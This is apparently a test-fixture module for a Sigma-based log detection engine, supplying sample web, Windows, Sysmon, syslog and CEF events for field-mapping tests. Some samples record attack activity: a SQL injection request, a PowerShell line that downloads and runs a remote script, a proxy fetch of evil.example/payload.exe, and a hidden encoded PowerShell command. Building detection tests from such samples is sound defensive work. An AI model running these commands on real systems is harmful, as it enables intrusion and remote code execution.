/**
 * @module detect/sigma/fields/samples.suite
 * Real-shaped events for the field-mapping and routing tests: raw lines and documents run through
 * Vigil's own normalisers (parse/registry), so the tests see exactly what detection will see.
 * Test-only: `*.suite.ts` files are left out of the build (tsconfig.build.json).
 */
import type { EcsEvent } from '../../../core/event.js';
import { Malformed, SKIP } from '../../../parse/normaliser.js';
import type { NormaliseContext } from '../../../parse/normaliser.js';
import { getNormaliser } from '../../../parse/registry.js';

/** Normalises one record with the named format; throws when the sample is not an event. */
export function normalised(format: string, record: string | object): EcsEvent {
  const normaliser = getNormaliser(format);
  if (normaliser === undefined) throw new Error(`no normaliser ${format}`);
  const ctx: NormaliseContext = { receivedAt: Date.UTC(2024, 4, 1, 3, 0, 0), tzOffsetMinutes: 420, stream: {} };
  const text = typeof record === 'string' ? record : JSON.stringify(record);
  const result = normaliser.normalise({ text }, ctx);
  if (result instanceof Malformed) throw new Error(`${format} sample malformed: ${result.reason}`);
  if (result === SKIP) throw new Error(`${format} sample skipped`);
  return result;
}

export const NGINX_SQLI =
  '203.0.113.7 - - [01/May/2024:10:00:00 +0700] "GET /search.php?id=1%27%20UNION%20SELECT%201,2,3-- HTTP/1.1" 200 512 "https://dichvucong.gov.vn/" "sqlmap/1.7.2#stable (https://sqlmap.org)"';

export const APACHE_LINE =
  '198.51.100.4 - alice [01/May/2024:10:00:01 +0700] "POST /wp-login.php HTTP/1.1" 401 230 "-" "Mozilla/5.0"';

export const IIS_LINES = [
  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken cs-host',
  '2024-05-01 03:00:02 10.1.1.10 GET /owa/auth/x.js cmd=whoami 443 - 192.0.2.55 Mozilla/5.0+(compatible) - 404 0 2 1234 345 15 mail.hanoi.gov.vn',
];

/** Normalises the IIS sample: the `#Fields:` directive, then the entry, on one stream. */
export function iisEvent(): EcsEvent {
  const normaliser = getNormaliser('w3c');
  if (normaliser === undefined) throw new Error('no w3c normaliser');
  const ctx: NormaliseContext = { receivedAt: Date.UTC(2024, 4, 1, 3, 0, 0), tzOffsetMinutes: 0, stream: {} };
  normaliser.normalise({ text: IIS_LINES[0] as string }, ctx);
  const result = normaliser.normalise({ text: IIS_LINES[1] as string }, ctx);
  if (result instanceof Malformed || result === SKIP) throw new Error('IIS sample is not an event');
  return result;
}

/** Security 4688 as Winlogbeat ships it. */
export const WINLOGBEAT_4688 = {
  '@timestamp': '2024-05-01T03:00:03.000Z',
  event: { code: '4688', provider: 'Microsoft-Windows-Security-Auditing' },
  host: { name: 'KT-WS01.sotttt.local' },
  winlog: {
    event_id: '4688',
    channel: 'Security',
    provider_name: 'Microsoft-Windows-Security-Auditing',
    computer_name: 'KT-WS01.sotttt.local',
    record_id: 77123,
    event_data: {
      SubjectUserSid: 'S-1-5-21-1-2-3-1104',
      SubjectUserName: 'nva',
      SubjectDomainName: 'SOTTTT',
      NewProcessId: '0x1a4',
      NewProcessName: 'C:\\Windows\\System32\\cmd.exe',
      TokenElevationType: '%%1936',
      ProcessId: '0x1f0',
      CommandLine: 'cmd.exe /c whoami /all',
      ParentProcessName: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      MandatoryLabel: 'S-1-16-8192',
    },
  },
};

/** Sysmon 1 in the flat shape Sigma's samples and SIEM exports use. */
export const SYSMON_1_FLAT = {
  EventID: 1,
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  Provider_Name: 'Microsoft-Windows-Sysmon',
  Computer: 'KT-WS02.sotttt.local',
  UtcTime: '2024-05-01 03:00:04.123',
  ProcessGuid: '{c1b49677-43f4-5c7a-0000-0010d3dd8044}',
  ProcessId: 4242,
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  OriginalFileName: 'PowerShell.EXE',
  CommandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgA',
  CurrentDirectory: 'C:\\Users\\nva\\',
  User: 'SOTTTT\\nva',
  IntegrityLevel: 'Medium',
  Hashes: 'SHA256=68A15A34C2E28B9B521A240B948634617D72AD619E3950BC6DC769E60A0C3CF2,IMPHASH=E96A73C7BF33A464C510EDE582318BF2',
  ParentProcessId: 1724,
  ParentImage: 'C:\\Windows\\explorer.exe',
  ParentCommandLine: 'C:\\Windows\\Explorer.EXE',
};

/** Sysmon 3 (network connection) as evtx_dump writes it. */
export const SYSMON_3_EVTX = {
  Event: {
    System: {
      Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
      EventID: 3,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Computer: 'KT-WS02.sotttt.local',
      TimeCreated: { '#attributes': { SystemTime: '2024-05-01T03:00:05.000Z' } },
    },
    EventData: {
      Image: 'C:\\Users\\nva\\AppData\\Local\\Temp\\svch0st.exe',
      User: 'SOTTTT\\nva',
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: '10.2.3.4',
      SourcePort: '50100',
      DestinationIp: '45.142.120.7',
      DestinationHostname: '-',
      DestinationPort: '4444',
    },
  },
};

/** A failed logon (4625), flat. */
export const SECURITY_4625_FLAT = {
  EventID: 4625,
  Channel: 'Security',
  Computer: 'DC01.sotttt.local',
  TargetUserName: 'administrator',
  TargetDomainName: 'SOTTTT',
  Status: '0xc000006d',
  SubStatus: '0xc000006a',
  LogonType: 3,
  WorkstationName: 'KALI',
  IpAddress: '45.142.120.7',
  IpPort: '50312',
};

/** PowerShell script block logging (4104), Winlogbeat shape. */
export const POWERSHELL_4104 = {
  '@timestamp': '2024-05-01T03:00:06.000Z',
  winlog: {
    event_id: 4104,
    channel: 'Microsoft-Windows-PowerShell/Operational',
    provider_name: 'Microsoft-Windows-PowerShell',
    computer_name: 'KT-WS02.sotttt.local',
    event_data: { MessageNumber: '1', MessageTotal: '1', ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://x/a.ps1")', ScriptBlockId: 'b1c2', Path: '' },
  },
};

export const SSHD_FAILED = '<38>May  1 10:00:07 web01 sshd[1234]: Failed password for invalid user admin from 198.51.100.23 port 52344 ssh2';
export const SUDO_COMMAND = '<85>May  1 10:00:08 web01 sudo:      nva : TTY=pts/0 ; PWD=/home/nva ; USER=root ; COMMAND=/usr/bin/bash -c id';
export const CRON_LINE = '<78>May  1 10:00:09 web01 CRON[2211]: (root) CMD (run-parts /etc/cron.hourly)';
export const KERNEL_LINE = '<4>May  1 10:00:10 web01 kernel: [12345.678] eth0: link up';
export const CEF_FORTIGATE =
  'CEF:0|Fortinet|FortiGate|7.2.4|0000000013|traffic forward deny|5|src=10.0.0.5 dst=203.0.113.9 spt=51515 dpt=445 proto=6 act=deny suser=nva';
export const CEF_PROXY =
  'CEF:0|Blue Coat|ProxySG|7.3|200|TCP_NC_MISS|1|src=10.0.0.8 dst=93.184.216.34 requestMethod=GET request=http://evil.example/payload.exe requestClientApplication=curl/8.0';
export const CEF_AV = 'CEF:0|Kaspersky Lab|Kaspersky Security Center|14|GNRL_EV_VIRUS_FOUND|Virus found|8|fname=eicar.com';
